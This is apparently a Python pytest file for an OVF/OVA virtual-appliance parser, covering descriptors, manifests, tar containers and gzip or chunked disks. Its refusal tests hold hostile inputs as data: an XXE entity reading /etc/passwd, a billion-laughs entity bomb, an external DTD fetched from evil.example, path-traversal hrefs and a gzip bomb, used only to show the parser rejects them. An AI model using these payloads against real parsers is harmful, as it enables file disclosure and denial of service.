# Licensed under the Apache License, Version 2.0 (the "License"); you may
# not use this file except in compliance with the License. You may obtain
# a copy of the License at
#
#      http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS, WITHOUT
# WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied. See the
# License for the specific language governing permissions and limitations
# under the License.

"""OVF descriptors, manifests, and the OVA container (in process).

Disks here are tiny fixed VHDs from ``vhdbuild``; conversions of real
disks written by qemu-img are in ``tests/functional/test_ova.py``.
"""

import gzip
import hashlib
import io
import logging
import os
import tarfile

import pytest

from any2kvm_os.containers.ova import descriptor
from any2kvm_os.containers.ova import package
from any2kvm_os.containers.ova import views
from any2kvm_os import exception
from any2kvm_os import fileio
from any2kvm_os.formats import vhd
from any2kvm_os import limits as a2k_limits
from any2kvm_os.writers import raw
from tests.lib import vhdbuild

MiB = 1 << 20
OVF1 = 'http://schemas.dmtf.org/ovf/envelope/1'
OVF2 = 'http://schemas.dmtf.org/ovf/envelope/2'
RASD = ('http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/'
        'CIM_ResourceAllocationSettingData')
VSSD = ('http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/'
        'CIM_VirtualSystemSettingData')
VMW = 'http://www.vmware.com/schema/ovf'
VMDK_URI = ('http://www.vmware.com/interfaces/specifications/'
            'vmdk.html#streamOptimized')
VHD_URI = 'http://technet.microsoft.com/en-us/virtualserver/bb676673.aspx'


def item(rtype, iid, **fields):
    body = ''.join('<rasd:%s>%s</rasd:%s>' % (k, v, k)
                   for k, v in sorted(fields.items()))
    return ('<Item><rasd:InstanceID>%s</rasd:InstanceID>'
            '<rasd:ResourceType>%d</rasd:ResourceType>%s</Item>'
            % (iid, rtype, body))


def envelope(files=(), disks=(), hardware='', ns=OVF1, system=True,
             head='', extra=''):
    """An OVF document; ``files``: (id, href, attrs), ``disks``:
    (diskId, fileRef or None, capacity, attrs)."""
    refs = ''.join('<File ovf:id="%s" ovf:href="%s" %s/>' % f for f in files)
    dsk = ''.join(
        '<Disk ovf:diskId="%s" %s ovf:capacity="%s" %s/>' % (
            d[0], 'ovf:fileRef="%s"' % d[1] if d[1] else '', d[2], d[3])
        for d in disks)
    vs = ''
    if system:
        vs = ('<VirtualSystem ovf:id="vm1"><Info>vm</Info><Name>test-vm'
              '</Name><VirtualHardwareSection><Info>hw</Info>%s'
              '</VirtualHardwareSection></VirtualSystem>' % hardware)
    return ('<?xml version="1.0" encoding="UTF-8"?>%s<Envelope xmlns="%s" '
            'xmlns:ovf="%s" xmlns:rasd="%s" xmlns:vssd="%s" xmlns:vmw="%s">'
            '<References>%s</References><DiskSection><Info>d</Info>%s'
            '</DiskSection>%s%s</Envelope>' % (head, ns, ns, RASD, VSSD, VMW,
                                               refs, dsk, extra, vs)
            ).encode()


VMWARE_HW = ''.join([
    item(3, 1, VirtualQuantity=4, AllocationUnits='hertz * 10^6').replace(
        '</Item>', '<vmw:CoresPerSocket ovf:required="false">2'
        '</vmw:CoresPerSocket></Item>'),
    item(4, 2, VirtualQuantity=4096, AllocationUnits='byte * 2^20'),
    item(5, 3, Address=1, ResourceSubType='PIIX4'),
    item(5, 4, Address=0, ResourceSubType='PIIX4'),
    item(6, 5, Address=0, ResourceSubType='lsilogic'),
    item(17, 6, Parent=5, AddressOnParent=1,
         HostResource='ovf:/disk/vmdisk2'),
    item(17, 7, Parent=5, AddressOnParent=0,
         HostResource='ovf:/disk/vmdisk1'),
    item(15, 8, Parent=3, AddressOnParent=0),
    item(10, 9, ResourceSubType='VmxNet3', Connection='VM Network',
         AutomaticAllocation='true'),
    item(10, 10, ResourceSubType='E1000', Connection='Backup'),
    '<vmw:Config ovf:required="false" vmw:key="firmware" '
    'vmw:value="efi"/>',
])


def vmware_ovf():
    return envelope(
        files=[('file1', 'disk1.vmdk', 'ovf:size="100"'),
               ('file2', 'disk2.vmdk', '')],
        disks=[('vmdisk1', 'file1', 16, 'ovf:capacityAllocationUnits='
                '"byte * 2^30" ovf:format="%s"' % VMDK_URI),
               ('vmdisk2', 'file2', 1073741824, '')],
        hardware=VMWARE_HW).replace(
            b'<VirtualHardwareSection>',
            b'<OperatingSystemSection ovf:id="101" vmw:osType="'
            b'otherLinux64Guest"><Info>os</Info><Description>Other Linux'
            b'</Description></OperatingSystemSection>'
            b'<ProductSection><Info>p</Info><Product>Appliance</Product>'
            b'<Vendor>ACME</Vendor><Version>1.2</Version></ProductSection>'
            b'<VirtualHardwareSection>')


# ---------------------------------------------------------------------------
# units and small helpers
# ---------------------------------------------------------------------------

@pytest.mark.parametrize('expr,mult', [
    (None, 1), ('byte', 1), ('bytes', 1), ('byte * 2^30', 1 << 30),
    ('byte*2^20', 1 << 20), ('byte * 1024 * 1024', 1 << 20),
    ('byte * 10^9', 10 ** 9), ('byte * 2^10 * 10^3', 1024000),
    ('  byte  *  2 ^ 20 ', 1 << 20), ('MegaBytes', 1 << 20),
    ('GB', 1 << 30), ('KiloBytes', 1024), ('byte * 1024', 1024),
])
def test_units(expr, mult):
    assert descriptor.parse_units(expr, 'x.ovf') == mult


@pytest.mark.parametrize('expr', [
    'bit * 2^3', 'byte * 2^x', 'byte * -2', 'byte / 2', 'byte * 2^999',
    'byte * 0', 'hertz * 10^6', 'byte * 2^20 *', 'byte * 1e9',
    'byte * 99999999999',
])
def test_units_refused(expr):
    with pytest.raises(exception.InvalidImage):
        descriptor.parse_units(expr, 'x.ovf')


@pytest.mark.parametrize('uri,fmt', [
    (VMDK_URI, 'vmdk'),
    ('http://www.vmware.com/specifications/vmdk.html#sparse', 'vmdk'),
    (VHD_URI, 'vhd'),
    ('http://technet.microsoft.com/en-us/library/bb676673.aspx', 'vhd'),
    ('http://www.gnome.org/~markmc/qcow-image-format.html', 'qcow2'),
    ('https://example.org/vhdx', 'vhdx'),
    ('http://www.ecma-international.org/publications/standards/'
     'Ecma-119.htm', None),
    (None, None),
])
def test_format_from_uri(uri, fmt):
    assert descriptor.format_from_uri(uri) == fmt


@pytest.mark.parametrize('href', [
    '../x.vmdk', '/etc/passwd', 'http://example.com/x.vmdk',
    'file:///etc/passwd', 'sub/x.vmdk', 'C:\\x.vmdk', '..', '.',
    '..%2Fx.vmdk', '%2Fetc%2Fpasswd', 'x\0.vmdk', 'file:x.vmdk', '',
])
def test_href_refused(href):
    assert descriptor.href_candidates(href) is None


def test_href_percent_decoded():
    assert descriptor.href_candidates('my%20disk.vmdk') == [
        'my%20disk.vmdk', 'my disk.vmdk']
    assert descriptor.href_candidates('disk1.vmdk') == ['disk1.vmdk']


def _view(tmp_path, data, name='f'):
    p = tmp_path / name
    p.write_bytes(data)
    return fileio.FileView.open_path(str(p))


def test_looks_like_ovf(tmp_path):
    with _view(tmp_path, vmware_ovf(), 'a') as v:
        assert descriptor.looks_like_ovf(v)
    with _view(tmp_path, b'\xef\xbb\xbf  \n' + vmware_ovf(), 'b') as v:
        assert descriptor.looks_like_ovf(v)
    with _view(tmp_path, ('<ovf:Envelope xmlns:ovf="%s"/>' % OVF2).encode(
            'utf-16'), 'c') as v:
        assert descriptor.looks_like_ovf(v)
    with _view(tmp_path, b'<?xml version="1.0"?><html/>', 'd') as v:
        assert not descriptor.looks_like_ovf(v)
    with _view(tmp_path, b'conectix' + bytes(504), 'e') as v:
        assert not descriptor.looks_like_ovf(v)


# ---------------------------------------------------------------------------
# descriptors
# ---------------------------------------------------------------------------

def test_vmware_ovf1():
    d = descriptor.parse(vmware_ovf(), 'vm.ovf')
    assert d.version == '1'
    vm = d.vm
    assert vm['name'] == 'test-vm'
    assert vm['cpus'] == 4
    assert vm['cores_per_socket'] == 2
    assert vm['memory_mb'] == 4096
    assert vm['firmware'] == 'uefi'
    assert vm['nics'] == [{'model': 'vmxnet3', 'network': 'VM Network'},
                          {'model': 'e1000', 'network': 'Backup'}]
    assert vm['os'] == {'cim_id': 101, 'vmware_os_type': 'otherLinux64Guest',
                        'description': 'Other Linux'}
    assert vm['product'] == {'product': 'Appliance', 'vendor': 'ACME',
                             'version': '1.2'}
    assert [c['type'] for c in vm['disk_controllers']] == ['ide', 'ide',
                                                           'scsi']
    assert vm['disk_controllers'][2] == {'id': '5', 'type': 'scsi',
                                         'model': 'lsilogic', 'bus': 0}
    # Ordered by controller then address, not by document order.
    assert [p.disk.id for p in d.placed] == ['vmdisk1', 'vmdisk2']
    assert d.placed[0].controller == {'type': 'scsi', 'model': 'lsilogic',
                                      'bus': 0, 'unit': 0}
    assert d.placed[0].disk.capacity == 16 << 30
    assert d.placed[0].disk.format == 'vmdk'
    assert d.placed[1].disk.capacity == 1 << 30
    assert d.placed[1].disk.format is None
    assert d.files['file1'].size == 100
    assert [x['disk_id'] for x in vm['disks']] == ['vmdisk1', 'vmdisk2']
    assert vm['disks'][0]['file'] == 'disk1.vmdk'


def test_bios_default_and_missing_fields():
    d = descriptor.parse(envelope(disks=[('d1', None, 1024, '')]), 'x.ovf')
    assert d.vm['firmware'] == 'bios'
    assert d.vm['cpus'] is None and d.vm['memory_mb'] is None
    assert d.vm['os'] is None and d.vm['product'] is None
    # A disk attached to nothing still comes out.
    assert [p.disk.id for p in d.placed] == ['d1']
    assert d.placed[0].controller is None


@pytest.mark.parametrize('firmware,expected', [
    ('EFI64', 'uefi'), ('EFI', 'uefi'), ('BIOS', 'bios')])
def test_virtualbox_firmware(firmware, expected):
    machine = ('<vbox:Machine xmlns:vbox="http://www.virtualbox.org/ovf/'
               'machine" ovf:required="false" name="vb"><Hardware>'
               '<Firmware type="%s"/></Hardware></vbox:Machine>' % firmware)
    doc = envelope(hardware=item(4, 1, VirtualQuantity=1024,
                                 AllocationUnits='MegaBytes')).replace(
        b'</VirtualHardwareSection>', b'</VirtualHardwareSection>' +
        machine.encode())
    d = descriptor.parse(doc, 'vb.ovf')
    assert d.vm['firmware'] == expected
    assert d.vm['memory_mb'] == 1024


def test_ovf2_other_prefixes_and_storage_items():
    doc = ('<?xml version="1.0"?>'
           '<o:Envelope xmlns:o="%s" xmlns:r="%s" xmlns:s="urn:sasd" '
           'xmlns:e="urn:epasd" xmlns:v="%s">'
           '<o:References><o:File o:id="f" o:href="a.vhd"/></o:References>'
           '<o:DiskSection><o:Info>i</o:Info><o:Disk o:diskId="d" '
           'o:fileRef="f" o:capacity="2" o:capacityAllocationUnits='
           '"byte * 2^20"/></o:DiskSection>'
           '<o:VirtualSystem o:id="two"><o:Info>i</o:Info>'
           '<o:EnvironmentFiles><o:File o:fileRef="f"/></o:EnvironmentFiles>'
           '<o:OperatingSystemSection o:id="36" v:osType="ubuntu64Guest">'
           '<o:Info>i</o:Info></o:OperatingSystemSection>'
           '<o:VirtualHardwareSection><o:Info>i</o:Info>'
           '<o:Item><r:InstanceID>1</r:InstanceID><r:ResourceType>3'
           '</r:ResourceType><r:VirtualQuantity>2</r:VirtualQuantity>'
           '</o:Item>'
           '<o:Item><r:InstanceID>2</r:InstanceID><r:ResourceType>4'
           '</r:ResourceType><r:VirtualQuantity>2</r:VirtualQuantity>'
           '<r:AllocationUnits>byte * 2^30</r:AllocationUnits></o:Item>'
           '<o:Item><r:InstanceID>3</r:InstanceID><r:ResourceType>20'
           '</r:ResourceType><r:ResourceSubType>AHCI</r:ResourceSubType>'
           '</o:Item>'
           '<o:StorageItem><s:InstanceID>4</s:InstanceID><s:ResourceType>17'
           '</s:ResourceType><s:HostResource>/disk/d</s:HostResource>'
           '<s:Parent>3</s:Parent><s:AddressOnParent>0</s:AddressOnParent>'
           '</o:StorageItem>'
           '<o:EthernetPortItem><e:InstanceID>5</e:InstanceID>'
           '<e:ResourceType>10</e:ResourceType><e:ResourceSubType>virtio'
           '</e:ResourceSubType><e:Connection>br0</e:Connection>'
           '</o:EthernetPortItem>'
           '</o:VirtualHardwareSection></o:VirtualSystem></o:Envelope>'
           % (OVF2, RASD, VMW)).encode()
    d = descriptor.parse(doc, 'two.ovf')
    assert d.version == '2'
    assert d.vm['name'] == 'two'
    assert d.vm['cpus'] == 2 and d.vm['memory_mb'] == 2048
    assert d.vm['os'] == {'cim_id': 36, 'vmware_os_type': 'ubuntu64Guest',
                          'description': None}
    assert d.vm['nics'] == [{'model': 'virtio', 'network': 'br0'}]
    assert d.placed[0].controller == {'type': 'sata', 'model': 'ahci',
                                      'bus': None, 'unit': 0}
    assert d.placed[0].disk.capacity == 2 * MiB


def test_collection_takes_first_system():
    one = envelope(files=[('f1', 'a.vhd', ''), ('f2', 'b.vhd', '')],
                   disks=[('d1', 'f1', 1024, ''), ('d2', 'f2', 1024, '')],
                   hardware=item(17, 1, HostResource='ovf:/disk/d1'))
    second = (b'<VirtualSystem ovf:id="vm2"><Info>i</Info><Name>other'
              b'</Name><VirtualHardwareSection><Info>i</Info>' +
              item(17, 1, HostResource='ovf:/disk/d2').encode() +
              b'</VirtualHardwareSection></VirtualSystem>')
    doc = one.replace(b'<VirtualSystem ', b'<VirtualSystemCollection '
                      b'ovf:id="c"><Info>c</Info><VirtualSystem ').replace(
        b'</Envelope>', second + b'</VirtualSystemCollection></Envelope>')
    d = descriptor.parse(doc, 'c.ovf')
    assert d.vm['name'] == 'test-vm'
    assert [p.disk.id for p in d.placed] == ['d1']
    assert 'only the first' in d.notes[0]


def test_deployment_option_items():
    hw = (item(3, 1, VirtualQuantity=1).replace(
        '<Item>', '<Item ovf:configuration="small">') +
        item(3, 2, VirtualQuantity=8).replace(
            '<Item>', '<Item ovf:configuration="large huge">'))
    extra = ('<DeploymentOptionSection><Info>i</Info>'
             '<Configuration ovf:id="small"><Label>s</Label></Configuration>'
             '<Configuration ovf:id="large" ovf:default="true"><Label>l'
             '</Label></Configuration></DeploymentOptionSection>')
    d = descriptor.parse(envelope(hardware=hw, extra=extra), 'x.ovf')
    assert d.vm['cpus'] == 8


def test_capacity_property_and_file_host_resource():
    extra = ('<ProductSection><Info>i</Info><Property ovf:key="disk.size" '
             'ovf:type="uint64" ovf:value="3"/></ProductSection>')
    doc = envelope(files=[('f1', 'a.vhd', ''), ('iso', 'x.iso', '')],
                   disks=[('d1', 'f1', '${disk.size}',
                           'ovf:capacityAllocationUnits="byte * 2^20"')],
                   hardware=item(17, 1, HostResource='ovf:/file/iso'),
                   extra=extra)
    d = descriptor.parse(doc, 'x.ovf')
    ids = [p.disk.id for p in d.placed]
    assert ids == ['iso', 'd1']
    assert d.placed[0].disk.capacity is None
    assert d.disks['d1'].capacity == 3 * MiB


@pytest.mark.parametrize('doc,problem', [
    (envelope(disks=[('d', 'nofile', 1, '')]), 'names no References'),
    (envelope(disks=[('d', None, 0, '')]), 'capacity of 0'),
    (envelope(disks=[('d', None, '1e9', '')]), 'not a non-negative'),
    (envelope(disks=[('d', None, '9' * 5000, '')]), 'not a non-negative'),
    (envelope(disks=[('d', None, '-5', '')]), 'not a non-negative'),
    (envelope(disks=[('d', None, '${nope}', '')]), 'undefined property'),
    (envelope(disks=[('d', None, 1, ''), ('d', None, 1, '')]), 'twice'),
    (envelope(files=[('f', 'a', ''), ('f', 'b', '')]), 'twice'),
    (envelope(files=[('f', 'a', 'ovf:size="x"')]), 'ovf:size'),
    (envelope(files=[('f', 'a', 'ovf:chunkSize="0"')]), 'chunkSize is 0'),
    (envelope(files=[('f', 'a', 'ovf:compression="bzip2"')]),
     'not supported'),
    (envelope(hardware=item(17, 1, HostResource='ovf:/disk/ghost')),
     'does not declare'),
    (envelope(hardware=item(17, 1, HostResource='/dev/sda')),
     'HostResource'),
    (envelope(disks=[('d', None, 1, '')],
              hardware=item(17, 1, HostResource='ovf:/disk/d') +
              item(17, 2, HostResource='ovf:/disk/d')), 'attached twice'),
    (envelope(disks=[('d', None, 1, 'ovf:capacityAllocationUnits="bit"')]),
     'multiples of bytes'),
    (b'<Envelope xmlns="http://www.vmware.com/schema/ovf/1/envelope"/>',
     'not an OVF 1.x/2.x'),
    (b'<html/>', 'not an OVF'),
    (b'<Envelope xmlns="%s"><Unclosed></Envelope>' % OVF1.encode(),
     'not well-formed'),
    (b'', 'not well-formed'),
])
def test_descriptor_refused(doc, problem):
    with pytest.raises(exception.Any2KvmError) as e:
        descriptor.parse(doc, 'bad.ovf')
    msg = str(e.value)
    assert '\n' not in msg and msg.startswith('bad.ovf: ')
    assert problem in msg


@pytest.mark.parametrize('href', ['../x.vmdk', '/etc/passwd',
                                  'http://evil.example/x.vmdk',
                                  'file:///etc/passwd'])
def test_descriptor_href_refused(href):
    with pytest.raises(exception.InvalidArchive) as e:
        descriptor.parse(envelope(files=[('f', href, '')]), 'bad.ovf')
    assert 'href outside the archive' in str(e.value)


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b''.join(b'<!ENTITY lol%d "%s">' % (
        i, (b'&lol%d;' % (i - 1) if i > 1 else b'&lol;') * 10)
        for i in range(1, 10))
    + b']><Envelope xmlns="%s">&lol9;</Envelope>' % OVF1.encode())
XXE = (b'<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM '
       b'"file:///etc/passwd">]><Envelope xmlns="%s"><References><File '
       b'href="&x;"/></References></Envelope>' % OVF1.encode())
PARAM_ENTITY = (b'<?xml version="1.0"?><!DOCTYPE e [<!ENTITY % p SYSTEM '
                b'"http://evil.example/x.dtd"> %p;]><Envelope/>')
DOCTYPE_ONLY = b'<?xml version="1.0"?><!DOCTYPE Envelope><Envelope/>'


@pytest.mark.parametrize('doc', [BILLION_LAUGHS, XXE, PARAM_ENTITY,
                                 DOCTYPE_ONLY],
                         ids=['billion-laughs', 'xxe', 'param-entity',
                              'doctype'])
def test_dtd_refused(doc):
    with pytest.raises(exception.InvalidImage) as e:
        descriptor.parse(doc, 'evil.ovf')
    assert 'DTD' in str(e.value) and '\n' not in str(e.value)


def test_bounds(monkeypatch):
    many = envelope(extra='<x/>' * (descriptor.MAX_ELEMENTS + 1))
    with pytest.raises(exception.InvalidImage, match='more than 100000 XML'):
        descriptor.parse(many, 'big.ovf')
    deep = envelope(extra='<x>' * 100 + '</x>' * 100)
    with pytest.raises(exception.InvalidImage, match='deeper than'):
        descriptor.parse(deep, 'deep.ovf')
    monkeypatch.setattr(descriptor, 'MAX_OVF_BYTES', 1000)
    with pytest.raises(exception.InvalidImage, match='more than 1000'):
        descriptor.parse(envelope(extra=' ' * 1000), 'huge.ovf')


# ---------------------------------------------------------------------------
# manifests
# ---------------------------------------------------------------------------

H1 = 'a' * 40
H256 = 'b' * 64


def test_manifest_variants():
    text = ('\ufeffSHA256(vm.ovf)= %s\r\n'
            'SHA1 (disk1.vmdk) = %s\n\n'
            'sha512(disk 2.vmdk)=%s  \n'
            'SHA256(odd(name).vmdk)= %s\n'
            'SHA256(vm.ovf)= %s\n' % (H256, H1.upper(), 'c' * 128, H256,
                                      H256)).encode()
    assert descriptor.parse_manifest(text, 'vm.mf') == [
        ('SHA256', 'vm.ovf', H256), ('SHA1', 'disk1.vmdk', H1),
        ('SHA512', 'disk 2.vmdk', 'c' * 128),
        ('SHA256', 'odd(name).vmdk', H256)]


@pytest.mark.parametrize('text,problem', [
    ('SHA256 vm.ovf %s' % H256, 'is not'),
    ('MD5(vm.ovf)= %s' % ('a' * 32), 'not supported'),
    ('SHA256(vm.ovf)= %s' % H1, 'hex digits'),
    ('SHA1(../x.vmdk)= %s' % H1, 'outside'),
    ('SHA1(/etc/passwd)= %s' % H1, 'outside'),
    ('SHA1(a)= %s\nSHA1(a)= %s' % (H1, 'd' * 40), 'twice'),
])
def test_manifest_refused(text, problem):
    with pytest.raises(exception.Any2KvmError) as e:
        descriptor.parse_manifest(text.encode(), 'vm.mf')
    assert problem in str(e.value)


def test_manifest_not_utf8():
    with pytest.raises(exception.InvalidArchive, match='not UTF-8'):
        descriptor.parse_manifest(b'\xff\xfe\x00', 'vm.mf')


# ---------------------------------------------------------------------------
# the container, in process
# ---------------------------------------------------------------------------

def fixed_vhd(size, seed):
    data = bytes((seed + i * 7) % 251 for i in range(size // 2))
    img, _uid = vhdbuild.build(size, disk_type=vhd.DISK_FIXED,
                               fixed_data=data)
    return img, data + bytes(size - len(data))


def write_tar(path, members, fmt=tarfile.PAX_FORMAT):
    with tarfile.open(path, 'w', format=fmt) as tf:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tf.addfile(ti, io.BytesIO(data))
    return str(path)


def manifest(members, algo='SHA256'):
    return ''.join('%s(%s)= %s\n' % (algo, n, hashlib.new(
        algo.lower(), d).hexdigest()) for n, d in members).encode()


def simple_ovf(href='disk1.vhd', attrs='', fmt=VHD_URI, capacity=64,
               units='byte * 2^10'):
    return envelope(files=[('file1', href, attrs)],
                    disks=[('vmdisk1', 'file1', capacity,
                            'ovf:capacityAllocationUnits="%s" ovf:format='
                            '"%s"' % (units, fmt))],
                    hardware=item(6, 1, ResourceSubType='lsilogic') +
                    item(17, 2, Parent=1, AddressOnParent=0,
                         HostResource='ovf:/disk/vmdisk1'))


def read_disk(source, tmp_path, index=0):
    out = tmp_path / ('out%d.raw' % index)
    raw.write_file(source.disks[index], str(out))
    return out.read_bytes()


LIMITS = a2k_limits.Limits()


@pytest.mark.parametrize('fmt', [tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT,
                                 tarfile.PAX_FORMAT])
def test_ova_with_manifest(tmp_path, fmt):
    img, content = fixed_vhd(64 << 10, 1)
    desc = simple_ovf()
    members = [('vm.ovf', desc), ('disk1.vhd', img)]
    path = write_tar(tmp_path / 'vm.ova',
                     [members[0], ('vm.mf', manifest(members))] +
                     members[1:], fmt)
    assert package.is_ova_tar(path, LIMITS)
    src = package.open_ova(path, LIMITS)
    try:
        assert src.container == 'ova'
        assert src.facts['name'] == 'test-vm'
        disk = src.disks[0]
        assert disk.name == path + ':disk1.vhd'
        assert disk.controller['model'] == 'lsilogic'
        assert disk.disk_id == 'vmdisk1'
        assert read_disk(src, tmp_path) == content
    finally:
        src.close()


def test_ova_descriptor_anywhere_and_dot_slash(tmp_path):
    img, content = fixed_vhd(64 << 10, 2)
    path = write_tar(tmp_path / 'vm.ova', [('./disk1.vhd', img),
                                           ('./vm.ovf', simple_ovf())])
    src = package.open_ova(path, LIMITS)
    try:
        assert read_disk(src, tmp_path) == content
    finally:
        src.close()


def test_ova_in_subdirectory(tmp_path):
    img, content = fixed_vhd(64 << 10, 2)
    path = write_tar(tmp_path / 'vm.ova', [('vm/vm.ovf', simple_ovf()),
                                           ('vm/disk1.vhd', img)])
    src = package.open_ova(path, LIMITS)
    try:
        assert src.disks[0].name == path + ':vm/disk1.vhd'
        assert read_disk(src, tmp_path) == content
    finally:
        src.close()


def test_chunked_and_gzip(tmp_path):
    img, content = fixed_vhd(64 << 10, 3)
    chunk = 30000
    pieces = [img[i:i + chunk] for i in range(0, len(img), chunk)]
    gz = gzip.compress(img)
    gz_pieces = [gz[i:i + 1000] for i in range(0, len(gz), 1000)]
    desc = envelope(
        files=[('f1', 'a.vhd', 'ovf:size="%d" ovf:chunkSize="%d"'
                % (len(img), chunk)),
               ('f2', 'b.vhd', 'ovf:compression="gzip" ovf:size="%d"'
                % len(gz)),
               ('f3', 'c.vhd', 'ovf:compression="gzip" ovf:chunkSize='
                '"1000"')],
        disks=[('d1', 'f1', 64 << 10, ''), ('d2', 'f2', 64 << 10, ''),
               ('d3', 'f3', 64 << 10, '')])
    members = ([('vm.ovf', desc)] +
               [('a.vhd.%09d' % i, p) for i, p in enumerate(pieces)] +
               [('b.vhd', gz)] +
               [('c.vhd.%09d' % i, p) for i, p in enumerate(gz_pieces)])
    path = write_tar(tmp_path / 'vm.ova', members + [
        ('vm.mf', manifest(members, 'SHA1'))])
    scratch = tmp_path / 'scratch'
    scratch.mkdir()
    limits = a2k_limits.Limits(scratch_dir=str(scratch))
    src = package.open_ova(path, limits)
    try:
        assert len(pieces) == 3
        assert [read_disk(src, tmp_path, i) for i in range(3)] == \
            [content] * 3
        # Private scratch directory; its files are unlinked at once.
        (sdir,) = os.listdir(scratch)
        assert os.stat(scratch / sdir).st_mode & 0o777 == 0o700
        assert os.listdir(scratch / sdir) == []
    finally:
        src.close()
    assert os.listdir(scratch) == []


def test_concat_view(tmp_path):
    parts = []
    for i, data in enumerate([b'abc', b'defg', b'h']):
        parts.append(_view(tmp_path, data, 'p%d' % i))
    v = views.ConcatView(parts, 'x')
    assert v.size == 8
    assert v.pread(8, 0) == b'abcdefgh'
    assert v.pread(3, 2) == b'cde'
    assert v.pread(100, 6) == b'gh'
    assert v.pread(1, 8) == b''
    assert v.pread(0, 3) == b''
    with pytest.raises(ValueError):
        v.pread(1, -1)
    for p in parts:
        p.close()


def test_blank_disk(tmp_path):
    desc = envelope(disks=[('b', None, 3, 'ovf:capacityAllocationUnits='
                            '"byte * 2^20"')])
    path = write_tar(tmp_path / 'vm.ova', [('vm.ovf', desc)])
    src = package.open_ova(path, LIMITS)
    try:
        disk = src.disks[0]
        assert disk.format == 'blank' and disk.size_hint == 3 * MiB
        assert disk.describe()[0]['allocated_bytes'] == 0
        out = tmp_path / 'blank.raw'
        raw.write_file(disk, str(out))
        st = os.stat(out)
        assert st.st_size == 3 * MiB and st.st_blocks == 0
        # Onto an existing file with data: zeroed.
        out.write_bytes(b'\xff' * (4 * MiB))
        target = raw.RawWriter.open(str(out), overwrite=True)
        target.fresh = False
        disk.write_to(target)
        target.commit()
        assert out.read_bytes() == bytes(3 * MiB)
    finally:
        src.close()


def _refusal(tmp_path, members, problem, cls=exception.Any2KvmError,
             limits=LIMITS, opener=package.open_ova):
    path = write_tar(tmp_path / 'bad.ova', members)
    with pytest.raises(cls) as e:
        opener(path, limits).close()
    msg = str(e.value)
    assert '\n' not in msg and problem in msg, msg
    return msg


def test_refusals(tmp_path):
    img, _ = fixed_vhd(64 << 10, 4)
    good = [('vm.ovf', simple_ovf()), ('disk1.vhd', img)]
    bad_mf = manifest(good).replace(b'SHA256(disk1.vhd)= ',
                                    b'SHA256(disk1.vhd)= 0')[:-2] + b'\n'
    msg = _refusal(tmp_path, good + [('vm.mf', bad_mf)],
                   'manifest mismatch for disk1.vhd (SHA256)',
                   exception.InvalidArchive)
    assert 'vm.mf' in msg
    _refusal(tmp_path, good + [('vm.mf', manifest(
        good + [('extra.vmdk', b'x')]))], "lists 'extra.vmdk'")
    _refusal(tmp_path, good + [('other.ovf', simple_ovf())],
             '2 .ovf descriptors')
    _refusal(tmp_path, [('disk1.vhd', img), ('vm.mf', manifest(good[1:]))],
             'no .ovf descriptor')
    _refusal(tmp_path, good[:1], "is missing from the archive")
    _refusal(tmp_path, [('vm.ovf', simple_ovf(href='../disk1.vhd'))] +
             good[1:], 'href outside the archive')
    _refusal(tmp_path, [('vm.ovf', simple_ovf(capacity=1,
                                              units='byte * 2^60'))] +
             good[1:], 'exceeds the limit')
    _refusal(tmp_path, [('vm.ovf', simple_ovf(fmt=VMDK_URI))] + good[1:],
             'says vmdk but the file holds a vhd disk')
    _refusal(tmp_path, [('vm.ovf', simple_ovf(attrs='ovf:size="5"'))] +
             good[1:], 'ovf:size says 5 bytes')
    _refusal(tmp_path, [('vm.ovf', simple_ovf(
        attrs='ovf:compression="gzip"'))] + good[1:], 'not gzip data')
    gz = bytearray(gzip.compress(img))
    gz[-8] ^= 1     # CRC-32 of the trailer
    _refusal(tmp_path, [('vm.ovf', simple_ovf(
        attrs='ovf:compression="gzip"')), ('disk1.vhd', bytes(gz))],
        'bad gzip data')
    _refusal(tmp_path, [('vm.ovf', simple_ovf(
        attrs='ovf:compression="gzip"')), ('disk1.vhd', bytes(gz[:-20]))],
        'truncated gzip')
    _refusal(tmp_path, [('vm.ovf', simple_ovf(
        attrs='ovf:compression="gzip"')),
        ('disk1.vhd', gzip.compress(img) + b'junk')], 'trailing data')
    _refusal(tmp_path, [('vm.ovf', simple_ovf(
        attrs='ovf:compression="gzip"')), ('disk1.vhd', gzip.compress(img))],
        'more than 1000 bytes: more than scratch space',
        limits=a2k_limits.Limits(scratch_limit=1000))
    # A gzip bomb is stopped at what its disk's capacity can take.
    _refusal(tmp_path, [('vm.ovf', simple_ovf(
        attrs='ovf:compression="gzip"')),
        ('disk1.vhd', gzip.compress(bytes(72 * MiB)))],
        'the capacity of its disk allows')
    _refusal(tmp_path, [('vm.ovf', simple_ovf(attrs='ovf:chunkSize="1000"')),
                        ('disk1.vhd.000000000', img[:1000]),
                        ('disk1.vhd.000000001', img[1000:1500]),
                        ('disk1.vhd.000000002', img[1500:])],
             'chunk')
    _refusal(tmp_path, [('vm.ovf', BILLION_LAUGHS)], 'DTD')
    _refusal(tmp_path, [('vm.ovf', XXE)], 'DTD')
    msg = _refusal(tmp_path, [('vm.ovf', envelope(
        disks=[('b', None, 70000, 'ovf:capacityAllocationUnits="byte * '
                '2^30"')]))], 'exceeds the limit')
    assert msg.startswith(str(tmp_path / 'bad.ova') + ':vm.ovf: ')


def test_gzip_multi_member_and_padding(tmp_path):
    img, content = fixed_vhd(64 << 10, 5)
    gz = gzip.compress(img[:1000]) + gzip.compress(img[1000:]) + bytes(512)
    path = write_tar(tmp_path / 'vm.ova', [
        ('vm.ovf', simple_ovf(attrs='ovf:compression="gzip"')),
        ('disk1.vhd', gz)])
    src = package.open_ova(path, LIMITS)
    try:
        assert read_disk(src, tmp_path) == content
    finally:
        src.close()


def test_directory_variant(tmp_path):
    img, content = fixed_vhd(64 << 10, 6)
    d = tmp_path / 'pkg'
    d.mkdir()
    (d / 'vm.ovf').write_bytes(simple_ovf())
    (d / 'disk1.vhd').write_bytes(img)
    (d / 'vm.mf').write_bytes(manifest([('vm.ovf', simple_ovf()),
                                        ('disk1.vhd', img)]))
    (d / 'unrelated.ovf').write_bytes(b'not even xml')
